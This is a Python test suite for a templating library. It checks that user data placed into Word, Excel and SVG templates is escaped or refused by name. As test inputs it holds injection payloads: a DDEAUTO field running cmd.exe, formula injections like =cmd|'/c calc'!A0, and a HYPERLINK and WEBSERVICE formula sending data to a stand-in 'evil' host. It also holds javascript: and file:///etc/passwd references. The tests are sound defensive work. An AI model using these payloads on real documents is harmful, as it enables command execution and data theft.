"""Text from the data, in every kind of document: exactly as typed, or refused by name. Read by libraries that are not ours."""

from __future__ import annotations

import io
import os
import re
from typing import Any
from xml.sax.saxutils import escape

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

import gfdocs
from tests.trust import samples, steps
from tests.trust.child import Outcome, fine, refused, run
from tests.trust.rows import pairs, row

KINDS = ("docx", "xlsx", "svg")
MAKE = {
    "docx": lambda text: samples.docx(text, header=text, core=text),
    "xlsx": lambda text: samples.xlsx({"A1": text, "B1": f"前{text}后"}),
    "svg": lambda text: samples.svg(text, inside=f'<desc>{escape(text)}</desc><g id="{escape(text)}"/>'),
}


def render(kind: str, value: Any, template: str = "{{ value }}") -> Outcome:
    return run(steps.render, MAKE[kind](template), kind, {"value": value})


def unescape_excel(text: str) -> str:
    """Undo ST_Xstring's _xHHHH_ (ECMA-376 part 1, 22.9.2.19), which openpyxl leaves as it is."""
    return re.sub("_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), text)


def texts_of(kind: str, data: bytes) -> list[str]:
    """Return the value at each place it was printed."""
    if kind == "docx":
        import docx

        document = docx.Document(io.BytesIO(data))
        return [
            document.paragraphs[0].text,
            document.sections[0].header.paragraphs[0].text,
            document.core_properties.title,
        ]
    if kind == "xlsx":
        import openpyxl

        sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
        alone, between = (unescape_excel(sheet[reference].value or "") for reference in ("A1", "B1"))
        assert between[0] == "前" and between[-1] == "后"
        return [alone, between[1:-1]]
    import xml.etree.ElementTree as ET

    root = ET.fromstring(data)
    space = "{http://www.w3.org/2000/svg}"
    found = [root.find(f"{space}text").text or "", root.find(f"{space}desc").text or ""]  # type: ignore[union-attr]
    identity = root.find(f"{space}g").get("id") or ""  # type: ignore[union-attr]
    # An attribute knows no line ends or tabs unless they are escaped; it may show a blank for them.
    return [*found, identity] if not re.search(r"[\n\r\t]", found[0]) else found


def same(kind: str, found: str, typed: str) -> bool:
    """True where the text is as typed; Word has one kind of line end."""
    if kind == "docx":
        typed = typed.replace("\r\n", "\n").replace("\r", "\n")
        found = found.replace("\r\n", "\n").replace("\r", "\n")
    return found == typed


# ---------------------------------------------------------------------------------------------------------------------
# Markup

MARKUP = (
    "A & B <C> \"D\" 'E' ]]> &lt; &#65;", "<b>x</b>", "]]>", "<![CDATA[x]]>", "<!-- x -->", "<?php x ?>", "&amp;amp;", "&#x41;", "&nbsp;", "%3Cb%3E",
    '"><script>alert(1)</script>', "' onload='alert(1)", "</w:t></w:r></w:p>", "</t></is></c><c r=\"Z9\"><v>1</v></c>", "</text><rect/>", "\\u003cb\\u003e",
    "&", "<", ">", '"', "'", "&&&&", "<<<<", "R&D", "a<b>c", "😀<𠀀>", "\\", "\\\\", "%s", "{0}", "$1", "\\1", "\\g<0>", "&#10;", "&#0;",
)  # fmt: skip


@row("xml_special_chars_default", "xml_special_chars_autoescape")
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(
    "template",
    [
        "{{ value }}",
        "{{ value|safe }}",
        "{{ value|e }}",
        "{{ value|string }}",
        "{{ [value]|join }}",
        "{{ value ~ '' }}",
    ],
)
def test_markup_in_the_data_is_text(kind: str, template: str) -> None:
    for value in MARKUP if template == "{{ value }}" else MARKUP[:4]:
        data = fine(render(kind, value, template))
        assert texts_of(kind, data) == [value] * len(texts_of(kind, data))


INJECTIONS = (
    '</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r>',
    "</w:instrText></w:r><w:r><w:instrText>DDEAUTO x", '"/><w:altChunk r:id="rId1"/>', "</w:body></w:document>", '" w:anchor="x', "</w:p><w:p><w:r><w:drawing/></w:r></w:p>",
    "</sheetData><sheetData>", "</c></row><row><c><f>1+1</f></c></row>", '" onload="alert(1)', "</text><script>alert(1)</script><text>", "</text><image href='http://evil/x.png'/><text>",
    "</desc><foreignObject/><desc>", "</dc:title><dc:creator>x</dc:creator><dc:title>",
)  # fmt: skip


def elements(data: bytes, kind: str) -> list[str]:
    from lxml import etree

    parts = samples.unzipped(data) if kind != "svg" else {"svg": data}
    return sorted(
        f"{name} {element.tag}" for name, part in parts.items() if name.endswith((".xml", ".rels", "svg"))
        for element in etree.fromstring(part).iter() if isinstance(element.tag, str) and not str(element.tag).endswith("}t")
    )  # fmt: skip


@row("xml_injection_dde")
@pytest.mark.parametrize(("kind", "value"), pairs(KINDS, INJECTIONS))
def test_no_element_comes_from_the_data(kind: str, value: str) -> None:
    plain = elements(fine(render(kind, "x")), kind)
    outcome = render(kind, value)
    if outcome.error:
        refused(outcome)
    else:
        assert elements(fine(outcome), kind) == plain
        assert texts_of(kind, outcome.value)[0] == value


@row("xml_injection_dde")
@pytest.mark.parametrize(
    "value", ['x" \\o "http://evil', "x\\", 'x"', "} { DDEAUTO x", "\x13 DDEAUTO \x15", '" \\* MERGEFORMAT', "a\\l b"]
)
def test_data_in_the_code_of_a_field_ends_no_argument_and_begins_no_switch(value: str) -> None:
    body = '<w:p><w:fldSimple w:instr="HYPERLINK &quot;{{ value }}&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    parts = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK "{{ value }}"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    for inside in (body, parts):
        outcome = refused(run(steps.render, samples.docx("x", body=inside), "docx", {"value": value}))
        assert set(outcome.codes) <= {"GF219", "GF211"}


@row("xml_injection_dde")
@pytest.mark.parametrize(
    ("value", "element"),
    pairs(
        [
            "javascript:alert(1)",
            "http://evil/x.png",
            "url(http://evil)",
            "data:text/html,x",
            "file:///etc/passwd",
            "x:y",
            "&#106;avascript:alert(1)",
            " javascript:x",
            "java\nscript:x",
            "JAVASCRIPT:x",
        ],
        [
            '<a href="{{ value }}"><rect/></a>',
            '<image href="{{ value }}" width="1" height="1"/>',
            '<use xlink:href="{{ value }}"/>',
            '<rect style="fill:{{ value }}"/>',
            '<rect fill="url({{ value }})"/>',
            '<rect style="fill:url({{ value }})"/>',
            '<image src="{{ value }}"/>',
        ],
    ),
)
def test_data_in_a_reference_of_a_drawing_leads_nowhere(element: str, value: str) -> None:
    outcome = run(steps.render, samples.svg("", inside=element), "svg", {"value": value})
    if outcome.error:
        refused(outcome)
        return
    text = fine(outcome).decode()
    if "url(" not in element and "url(" not in value and "style" in element:
        return  # a style without url() fetches nothing
    for word in ("javascript:", "http://evil", "file:", "data:text"):
        assert word not in text.lower().replace('xmlns="http://www', "").replace("\n", "")


CONTROL = (
    "\0",
    "\x01",
    "\x08",
    "\x0b",
    "\x0c",
    "\x0e",
    "\x1b",
    "\x1f",
    "\ud800",
    "\udfff",
    "\ufffe",
    "\uffff",
    "\u202a",
    "\u202e",
    "\u2066",
    "\u2069",
)


@row("xml_control_chars_docx", "xml_control_chars_xlsx")
@pytest.mark.parametrize(("kind", "char"), pairs(KINDS, CONTROL))
def test_a_character_no_document_holds_is_refused_with_the_field(kind: str, char: str) -> None:
    outcome = refused(render(kind, f"甲{char}乙"), "GF211", says=f"U+{ord(char):04X}")
    assert any("value" in issue.fact for issue in outcome.issues), str(outcome)


@row("xml_control_chars_docx", "xml_control_chars_xlsx")
@pytest.mark.parametrize("kind", KINDS)
def test_the_field_of_a_list_is_told_with_its_number(kind: str) -> None:
    companies = [{"name": "甲"}, {"name": "乙\0"}, {"name": "丙"}, {"name": "丁\x07"}]
    if kind == "xlsx":
        data = samples.xlsx({"A1": "{%tr for c in companies %}", "A2": "{{ c.name }}", "A3": "{%tr endfor %}"})
    else:
        data = {"docx": samples.docx, "svg": samples.svg}[kind]("{% for c in companies %}{{ c.name }}{% endfor %}")  # type: ignore[operator]
    outcome = refused(run(steps.render, data, kind, {"companies": companies}), "GF211")
    facts = "\n".join(issue.fact for issue in outcome.issues)
    assert "companies[1]" in facts and "companies[3]" in facts


@row("xml_control_chars_xlsx")
def test_nothing_is_written_where_a_text_is_refused() -> None:
    assert fine(run(steps.save_over, samples.xlsx({"A1": "{{ value }}"}), "xlsx", {"value": "甲\0"})) == (
        b"old",
        ["out.xlsx"],
        "GF211",
    )


# ---------------------------------------------------------------------------------------------------------------------
# Workbooks

LIKE_FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil/?"&B1,"x")',
    "=cmd|'/c calc'!A0",
    "=公司",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "'=1",
    "=",
    "==",
    " =1",
    "{=1}",
    "=1\n=2",
    "+86-512",
    "-",
    "−1",
)


@row("formula_injection")
@pytest.mark.parametrize("value", LIKE_FORMULAS)
def test_a_text_is_never_a_formula_whatever_it_begins_with(value: str) -> None:
    import openpyxl

    data = fine(render("xlsx", value))
    cell = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]["A1"]
    assert cell.data_type == "s" and unescape_excel(cell.value) == value
    sheet = samples.unzipped(data)["xl/worksheets/sheet1.xml"]
    assert b"<f>" not in sheet and b"<f " not in sheet  # type: ignore[operator]
    if value[0] in "=+-@\t\r＝＋－＠":
        assert cell.quotePrefix, "without the quote it becomes a formula when somebody edits the cell"


@row("formula_injection")
def test_a_text_from_the_data_gets_into_no_formula_of_the_template() -> None:
    outcome = run(
        steps.render,
        samples.xlsx({"A1": ('IF(1,"{{ value }}",0)', 0), "A2": "{{ value }}"}),
        "xlsx",
        {"value": '"&WEBSERVICE("http://evil")&"'},
    )
    if outcome.error:
        refused(outcome)
    else:
        assert b"WEBSERVICE" not in re.sub(
            b"<t[^>]*>.*?</t>", b"", samples.unzipped(fine(outcome))["xl/worksheets/sheet1.xml"]
        )  # type: ignore[arg-type]


@row("long_text_truncated")
@pytest.mark.parametrize(
    ("text", "fits"),
    [
        ("甲" * 32_767, True),
        ("甲" * 32_768, False),
        ("😀" * 16_383, True),
        ("😀" * 16_384, False),
        ("a" * 40_000, False),
        ("&" * 32_767, True),
        ("_x0041_" * 4681, True),
    ],
)
def test_a_text_too_long_for_a_cell_is_refused_not_cut(text: str, fits: bool) -> None:
    import openpyxl

    outcome = run(steps.render, samples.xlsx({"A1": "{{ value }}"}), "xlsx", {"value": text})
    if fits:
        value = openpyxl.load_workbook(io.BytesIO(fine(outcome))).worksheets[0]["A1"].value
        assert unescape_excel(value) == text
    else:
        refused(outcome, "GF264", says="32,767")


@row("credit_code_number")
@pytest.mark.parametrize(
    "value",
    [
        "913205051234567890",
        "913205051234567",
        "0512",
        "215000",
        "13800000000",
        "1E10",
        "1/2",
        "2023-01-01",
        "TRUE",
        "#N/A",
        "1.10",
        "9132050512345678901",
    ],
)
def test_a_text_of_digits_stays_a_text(value: str) -> None:
    import openpyxl

    cell = openpyxl.load_workbook(io.BytesIO(fine(render("xlsx", value)))).worksheets[0]["A1"]
    assert (cell.data_type, cell.value) == ("s", value)


@row("credit_code_number")
@pytest.mark.parametrize("value", [913205051234567890, 10**15 + 1, 10**20, -(10**17)])
def test_a_number_excel_cannot_hold_is_text_or_refused(value: int) -> None:
    import openpyxl

    outcome = render("xlsx", value)
    if outcome.error:
        refused(outcome)
    else:
        assert str(openpyxl.load_workbook(io.BytesIO(fine(outcome))).worksheets[0]["A1"].value) == str(value)


@row("xhhhh_escape")
@pytest.mark.parametrize(
    "value",
    [
        "型号_x0041_规格",
        "_x000D_",
        "_x005F_",
        "_x005F_x0041_",
        "_xd800_",
        "_xZZZZ_",
        "__x0041__",
        "_x0041",
        "x0041_",
        "_X0041_",
        "_x0041_x0042_",
        "_x_x0041_",
    ],
)
def test_what_looks_like_excels_escape_is_shown_as_typed(value: str) -> None:
    import openpyxl

    sheet = openpyxl.load_workbook(io.BytesIO(fine(render("xlsx", value)))).worksheets[0]
    assert unescape_excel(sheet["A1"].value) == value
    assert unescape_excel(sheet["B1"].value) == f"前{value}后"


TITLES = (
    "江苏/某某[集团",
    "某" * 40,
    "History",
    "'甲'",
    "A公司",
    "a公司",
    "",
    "  ",
    ":*?/\\[]",
    "😀" * 20,
    "=1+1",
    "'",
    "a" * 31,
    "a" * 32,
    "甲\n乙",
    "工厂",
    "_x0041_",
    "<&>",
    "CON",
)


@row("sheet_title_from_company")
@pytest.mark.parametrize("title", TITLES)
def test_a_sheet_named_by_the_data_is_named_so_that_excel_opens_it(title: str) -> None:
    """Sanitised, or refused by name; never a workbook that Excel repairs."""
    outcome = run(steps.render, samples.xlsx({"A1": "x"}, title="{{ value }}"), "xlsx", {"value": title})
    if outcome.error:
        refused(outcome)
        return
    import openpyxl

    (name,) = openpyxl.load_workbook(io.BytesIO(fine(outcome))).sheetnames
    assert 0 < len(name.encode("utf-16-le")) // 2 <= 31
    assert not re.search(r"[\[\]:*?/\\]", name) and name[0] != "'" and name[-1] != "'" and name.lower() != "history"
    assert name.strip()


@row("sheet_title_from_company")
def test_sheets_of_equal_names_are_told_apart() -> None:
    base = samples.unzipped(samples.xlsx({"A1": "x"}, title="{{ a }}"))
    book = (
        base["xl/workbook.xml"]
        .decode()
        .replace("</sheets>", '<sheet name="{{ b }}" sheetId="2" r:id="rId8"/></sheets>')
    )  # type: ignore[union-attr]
    relations = (
        base["xl/_rels/workbook.xml.rels"]
        .decode()
        .replace(
            "</Relationships>",
            samples.relation("worksheet", "worksheets/sheet2.xml", external=False, identity="rId8")
            + "</Relationships>",
        )
    )  # type: ignore[union-attr]
    types = (
        base["[Content_Types].xml"]
        .decode()
        .replace(
            "</Types>",
            '<Override PartName="/xl/worksheets/sheet2.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        )
    )  # type: ignore[union-attr]
    data = samples.zipped(
        {
            **base,
            "xl/workbook.xml": book,
            "xl/_rels/workbook.xml.rels": relations,
            "[Content_Types].xml": types,
            "xl/worksheets/sheet2.xml": base["xl/worksheets/sheet1.xml"],
        }
    )
    for first, second in (("甲", "甲"), ("A公司", "a公司"), ("某" * 40, "某" * 41), ("a/b", "a:b")):
        outcome = run(steps.render, data, "xlsx", {"a": first, "b": second})
        if outcome.error:
            refused(outcome)
            continue
        import openpyxl

        names = openpyxl.load_workbook(io.BytesIO(fine(outcome))).sheetnames
        assert len({name.casefold() for name in names}) == 2


# ---------------------------------------------------------------------------------------------------------------------
# Any text

NASTY = st.sampled_from(
    ["&", "<", ">", '"', "'", "]]>", "{{", "}}", "{%", "%}", "{#", "\n", "\r", "\t", "\r\n", " ", "  ", "=", "+", "-", "@", "_x0041_", "_x", "\0", "\x0b", "\ud800", "\ufffe",
     "\u202e", "\u200b", "\u2028", "\x85", "\xa0", "😀", "𠀀", "é", "é", "ﬁ", "①", "　", "，", "“", "”", "…", "—", "·", "甲", "公司", "0512", "\ufeff", "\u00ad", "؜", "\U000e0041", "\x7f", "\x80"]
)  # fmt: skip
TEXT = st.one_of(st.text(max_size=40), st.lists(st.one_of(NASTY, st.text(max_size=3)), max_size=8).map("".join))
NIGHTLY = bool(os.environ.get("GFDOCS_NIGHTLY"))
FEW = settings(deadline=None, derandomize=not NIGHTLY, max_examples=5000 if NIGHTLY else 80, print_blob=True)

_TEMPLATES = {
    kind: gfdocs.open_template(make("{{ c.name }}"), kind=kind, name=f"any.{kind}") for kind, make in MAKE.items()
}  # type: ignore[arg-type]


@row("xml_special_chars_default", "xml_control_chars_docx", "xml_control_chars_xlsx")
@pytest.mark.parametrize("kind", KINDS)
@FEW
@given(value=TEXT)
@example(value="“R&D”…<节能>")
@example(value=" 前后空格 ")
@example(value="\n")
@example(value="a\r\nb")
@example(value="\x85")
@example(value="\u2028")
@example(value="\ufeff甲")
def test_any_text_comes_out_as_typed_or_is_refused_by_name(kind: str, value: str) -> None:
    try:
        data = _TEMPLATES[kind].render({"c": {"name": value}}).to_bytes()
    except gfdocs.TemplateError as found:
        fault = found
    else:
        fault = None
    if fault is not None:
        assert {issue.code for issue in fault.issues} <= {"GF211", "GF244", "GF264"}
        assert (
            re.search("[\0-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff\u202a-\u202e\u2066-\u2069]", value) or kind == "svg"
        ), repr(value)
        return
    found = texts_of(kind, data)
    assert all(same(kind, text, value) for text in found), (value, found)


@FEW
@given(name=TEXT, note=TEXT)
@example(name="甲", note=" x ")
def test_any_name_comes_through_a_project_as_typed_or_is_refused_by_name(name: str, note: str) -> None:
    """From the YAML to Word, Excel and the plaque: 0 silent changes."""
    import json

    def quoted(text: str) -> str:
        return json.dumps(text, ensure_ascii=False)

    yaml = f"companies:\n- name: {quoted(name)}\n  district: 示范区\n  industry: {quoted(note)}\n".encode(
        "utf-8", "surrogatepass"
    )
    try:
        (company,) = steps.load_companies(yaml)
    except gfdocs.DataError as found:
        fault = found
    else:
        fault = None
    if fault is not None:
        assert all(issue.code.startswith(("GF1", "GF4")) for issue in fault.issues)
        return
    assert (company["name"], company["industry"]) == (name, note)
